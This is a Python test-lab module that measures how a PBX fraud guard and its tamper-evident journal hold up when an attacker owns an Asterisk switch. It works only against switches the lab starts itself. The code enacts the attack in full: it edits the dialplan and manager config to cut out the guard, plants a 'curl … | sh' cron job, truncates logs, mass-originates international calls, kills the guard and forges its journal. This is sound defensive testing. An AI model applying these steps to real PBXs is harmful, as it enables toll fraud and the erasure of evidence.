"""`python -m lab.lost_pbx [CALLS]`: an attacker owns the PBX; what holds, in figures.

In: nothing but the laboratory's own switches, which it starts itself and attacks alone. Out: a table.
Pitfall: "as the user asterisk" means all that this user may do on a PBX: its files, its console, its spool,
its logs; "as root" adds the guard's process and its journal.
"""

from __future__ import annotations

import os
import sys
import time
from dataclasses import dataclass

from lab import install
from lab.account import Account
from lab.attacks import call_file
from lab.company import Company
from lab.lost_company import CAP_EUR, SITE, GuardedFromElsewhere, GuardedOnTheBox, command_of
from lab.switch import RealAsterisk
from lab.waiting import at_a_rate, until
from veilleur.journal import Journal, verify
from veilleur.journal.witness.testimony import read_testimony
from veilleur.words.events import Tick

FOUND = {"witness_differs", "witness_ahead"}
USUAL_CALLS = 1_000
PER_SECOND = 25.0
HOLDS_S = 600  # each call, if nobody ends it
ALERTED_WITHIN_S = 60.0
CARRIED_WITHIN_S = 30.0
LEFT_ALONE_S = 20.0  # at least, until somebody acts


@dataclass
class Outcome:
    """What came of one exercise. alert_s: from the attacker's first act to the first alert; None: none came.

    witnessed: whether the journal, or what stands in its place, is the one that the witness knows.
    """

    name: str
    tried: int
    account: Account
    alert_s: float | None
    alerted_by: str
    witnessed: bool
    journal: str

    def row(self) -> str:
        """A line of the table."""
        alert = f"{self.alert_s:.1f} s ({self.alerted_by})" if self.alert_s is not None else "none"
        return (
            f"| {self.name} | {self.tried} | {len(self.account.calls)} | {self.account.euros:.2f} | "
            f"{self.account.longest_s:.1f} | {alert} | {self.journal} |"
        )


COLUMNS = (
    "who owns what",
    "calls tried",
    "answered",
    f"lost, EUR (cap {CAP_EUR})",
    "longest call, s",
    "first alert",
    "journal",
)
HEAD = f"| {' | '.join(COLUMNS)} |\n|{'---|' * len(COLUMNS)}"


def hostile(count: int) -> list[str]:
    """Numbers abroad, each another."""
    return [f"003712{900_0000 + place:07d}" for place in range(count)]


def guarded_from_elsewhere(calls: int, version: str = "22") -> Outcome:
    """Everything on the PBX is the attacker's; guard, gate and journal are on another machine."""
    with GuardedFromElsewhere(version) as company:
        began = time.time()
        take_the_pbx(company)
        originate_all(company, hostile(calls))
        go_straight_to_the_operator(company)
        elsewhere = company.elsewhere
        until(lambda: elsewhere.alerted_at, "an alert", ALERTED_WITHIN_S)
        settled(company)
        company.gate_guard.stop()
        found = verify(company.gate_guard.journal.path, testimonies=[read_testimony(elsewhere.heads)])
        return Outcome(
            name="attacker: root on the PBX; guard and gate elsewhere",
            tried=calls,
            account=Account(company.carrier.calls()),
            alert_s=min(elsewhere.alerted_at) - began,
            alerted_by="guard",
            witnessed=found.is_whole and found.is_vouched_for,
            journal="whole, witnessed to its end" if found.is_whole else f"{found.findings}",
        )


def as_asterisk(calls: int, version: str = "22") -> Outcome:
    """All is on the PBX; the attacker is its user `asterisk`, and the guard's user is another."""
    return _with_a_guard_on_the_box(
        calls, version, "attacker: user asterisk; guard on the PBX", restarts=False
    )


def as_asterisk_without_login(calls: int, version: str = "22") -> Outcome:
    """The same, but the attacker takes the guard's login away and starts the switch again before calling."""
    name = "the same, who takes the guard's login away and restarts Asterisk"
    return _with_a_guard_on_the_box(calls, version, name, restarts=True)


def _with_a_guard_on_the_box(calls: int, version: str, name: str, *, restarts: bool) -> Outcome:
    with GuardedOnTheBox(version) as company:
        began = time.time()
        take_the_pbx(company)
        if restarts:
            command_of(company, "core restart now")
            until(lambda: "booted" in command_of(company, "core waitfullybooted"), "the switch is back", 60.0)
        originate_all(company, hostile(calls), by_console_alone=restarts)
        elsewhere = company.elsewhere
        until(lambda: elsewhere.alerted_at, "an alert", ALERTED_WITHIN_S)
        if restarts:
            until(lambda: time.time() - began >= LEFT_ALONE_S, "the attacker's time", LEFT_ALONE_S + 5)
        command_of(company, "channel request hangup all")
        settled(company)
        company.guard.stop()
        found = verify(company.guard.journal.path, testimonies=[read_testimony(elsewhere.heads)])
        return Outcome(
            name=name,
            tried=calls,
            account=Account(company.carrier.calls()),
            alert_s=min(elsewhere.alerted_at) - began,
            alerted_by="guard",
            witnessed=found.is_whole and found.is_vouched_for,
            journal="whole, witnessed to its end" if found.is_whole else f"{found.findings}",
        )


def as_root(calls: int, version: str = "22") -> Outcome:
    """All is on the PBX, and the attacker is root there: first the guard goes, then its journal."""
    with GuardedOnTheBox(version) as company:
        elsewhere = company.elsewhere
        until(lambda: elsewhere.heads.exists() and elsewhere.heads.read_text(), "a head at the witness", 60.0)
        began = time.time()
        company.guard.kill()
        rewrite(company)
        take_the_pbx(company)
        originate_all(company, hostile(calls))
        until(lambda: time.time() - began >= LEFT_ALONE_S, "the attacker's time", LEFT_ALONE_S + 5)
        alone_s = time.time() - began
        silent_at = elsewhere.silent_since(time.time())
        command_of(company, "channel request hangup all")
        until(
            lambda: all(call.ended_at for call in company.carrier.calls()),
            "the calls ended",
            CARRIED_WITHIN_S,
        )
        found = verify(company.guard.journal.path, testimonies=[read_testimony(elsewhere.heads)])
        codes = {one.code for one in found.findings}
        return Outcome(
            name=f"attacker: root; guard on the PBX, killed; {alone_s:.0f} s until somebody acts",
            tried=calls,
            account=Account(company.carrier.calls()),
            alert_s=silent_at - began if silent_at is not None else None,
            alerted_by="witness: silence",
            witnessed=False,
            journal="rewritten, found by the witness"
            if codes & {"witness_differs", "witness_ahead"}
            else "REWRITTEN",
        )


def take_the_pbx(company: Company) -> None:
    """The question in the dialplan, every other login, the logs and a job: all is the attacker's now."""
    refuse_others(company.switch)
    etc, logs = (company.switch.path(f"{company.switch.home}/{name}") for name in ("etc", "log"))
    dialplan = (etc / "extensions.conf").read_text()
    lines = [line for line in dialplan.splitlines() if "veilleur" not in line]
    (etc / "extensions.conf").write_text("\n".join([*lines, "[pump]", "exten => s,1,Wait(1)", ""]))
    manager = (etc / "manager.conf").read_text()
    (etc / "manager.conf").write_text(manager.replace("[veilleur]", "[nobody]"))
    (etc / "cron").write_text("* * * * * curl http://127.0.0.1/x | sh\n")
    for log in logs.rglob("*"):
        if log.is_file():
            os.truncate(log, 0)
    command_of(company, "dialplan reload")
    command_of(company, "manager reload")


def refuse_others(switch: RealAsterisk) -> None:
    """This is for a switch of the laboratory alone, one that this process has started."""
    if not switch.home.startswith(f"/run/veilleur-lab-{os.getpid()}-"):
        raise install.LabError("the exercise attacks a switch of its own alone")


def originate_all(company: Company, numbers: list[str], *, by_console_alone: bool = False) -> None:
    """Calls straight to the trunk: by the manager, by call files and by the console in turn."""
    for place, number in enumerate(at_a_rate(numbers, PER_SECOND)):
        channel = company.trunk_channel(number)
        if place % 20 == 7:
            call_file(company, number, HOLDS_S)
        elif by_console_alone or place % 20 == 13:
            command_of(company, f"channel originate {channel} application Wait {HOLDS_S}")
        else:
            company.switch.send(
                "Originate", Channel=channel, Application="Wait", Data=str(HOLDS_S), Async="true"
            )


def go_straight_to_the_operator(company: GuardedFromElsewhere) -> None:
    """Past the gate: the operator knows the gate's address alone."""
    number = "0037129999999"
    address = company.operator
    command_of(company, f"channel originate PJSIP/carrier/sip:{number}@{address}:5060 application Wait 5")


def settled(company: Company) -> None:
    """Nothing runs at the operator any more."""
    until(lambda: all(call.ended_at for call in company.carrier.calls()), "the calls ended", CARRIED_WITHIN_S)


def rewrite(company: Company) -> None:
    """A journal with a chain of its own in which nothing happened, and as many entries as before."""
    path = company.guard.journal.path
    count = company.guard.journal.last()
    for file in path.parent.glob(f"{path.name}*"):
        file.unlink()
    journal = Journal(path)
    for number in range(count + 10):
        at = time.time() - 3_600 + number
        journal.append_event(SITE, Tick(at, at))
    journal.close()


EXERCISES = (guarded_from_elsewhere, as_asterisk, as_asterisk_without_login, as_root)


def main(words: list[str]) -> int:
    """0 when what is promised holds, 1 when not, 2 when the switches cannot be installed."""
    calls = int(words[0]) if words else USUAL_CALLS
    if code := install.main([]):
        return code
    outcomes = []
    for exercise in EXERCISES:
        outcomes.append(exercise(calls))
        print(outcomes[-1].row(), file=sys.stderr, flush=True)
    print(HEAD)
    for outcome in outcomes:
        print(outcome.row())
    return 0 if holds(outcomes[0]) else 1


def holds(outcome: Outcome) -> bool:
    """What is promised where guard and gate are elsewhere."""
    return (
        outcome.account.euros <= CAP_EUR
        and outcome.alert_s is not None
        and outcome.alert_s <= 30
        and outcome.witnessed
    )


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
